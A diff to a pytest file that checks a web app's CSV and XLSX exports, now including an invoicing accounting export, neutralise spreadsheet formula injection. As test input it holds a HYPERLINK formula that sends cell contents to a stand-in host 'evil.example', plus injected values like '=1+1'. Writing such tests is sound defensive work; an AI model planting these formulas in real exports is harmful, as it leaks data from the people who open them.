@@ -12,13 +12,17 @@ from datetime import date
 import pytest
 from openpyxl import load_workbook
 
+from app.audit.log import SYSTEM
 from app.core.transaction import transaction
 from app.extensions import db
-from app.models import UserRole
+from app.invoicing import seller
+from app.invoicing import service as invoicing
+from app.models import Event, UserRole
 from app.registration import service
 from app.surveys import answering
 from app.surveys.answering import Cleaned
 from tests.factories import applicant
+from tests.invoicing.issuing.conftest import KOMMUNE_ORG, SELLER_VALUES
 from tests.surveys.helpers import option_ids, question_ids, small_survey
 
 LINK = '=HYPERLINK("https://evil.example/?d="&A1;"Klikk her")'
@@ -33,15 +37,19 @@ EXPORTS = {  # (endpoint, format) → the URL, from the world below
     ("registration_organiser.export_xlsx", "xlsx"): "/admin/events/{slug}/registrations.xlsx",
     ("surveys_organiser.export", "csv"): "/admin/surveys/{survey_id}/results.csv",
     ("surveys_organiser.export", "xlsx"): "/admin/surveys/{survey_id}/results.xlsx",
+    ("invoicing_organiser.accounting_export", "csv"): "/admin/events/{slug}/invoices/accounting.csv",
+    ("invoicing_organiser.accounting_export", "xlsx"): "/admin/events/{slug}/invoices/accounting.xlsx",
 }
+REFERENCE = "=1+1"  # the buyer reference a participant typed, on the invoice and in the accounting export
 
 
 @pytest.fixture
 def world(app, make, login):
-    event = make.event(title="Lederkonferansen 2027")
+    event = make.event(title="Lederkonferansen 2027", fee_nok=4500)
     with app.app_context():
         with transaction():
-            service.register(event.id, applicant(1, **TYPED))
+            service.register(event.id, applicant(1, invoice_org_number=KOMMUNE_ORG, invoice_reference=REFERENCE,
+                                                 **TYPED))
         with transaction():
             service.register(event.id, applicant(2, first_name="Áile", last_name="Gaup", phone="-5"))
         survey = small_survey(event.id)
@@ -51,6 +59,9 @@ def world(app, make, login):
                                          (q["comment"], None, None, text)]))
             for text in ANSWERS])
         db.session.commit()
+        with transaction():
+            seller.save(dict(SELLER_VALUES), SYSTEM)
+            invoicing.issue_batch(db.session.get(Event, event.id), SYSTEM)
         survey_id = survey.id
     login(make.user(UserRole.ADMINISTRATOR).email)
     return {"slug": event.slug, "survey_id": survey_id}
@@ -76,6 +87,8 @@ def test_no_export_hands_a_formula_to_the_spreadsheet(client, world, endpoint, f
     response = client.get(EXPORTS[endpoint, fmt].format(**world))
     assert response.status_code == 200
     typed = list(TYPED.values()) if endpoint.startswith("registration_organiser.") else ANSWERS
+    if endpoint.startswith("invoicing_organiser."):
+        typed = [REFERENCE, "+SUM(1;2) @SUM(1+1)"]  # the reference, and the participant's name on her line
     if fmt == "csv":
         cells = _csv_cells(response.data)
         for text in typed:
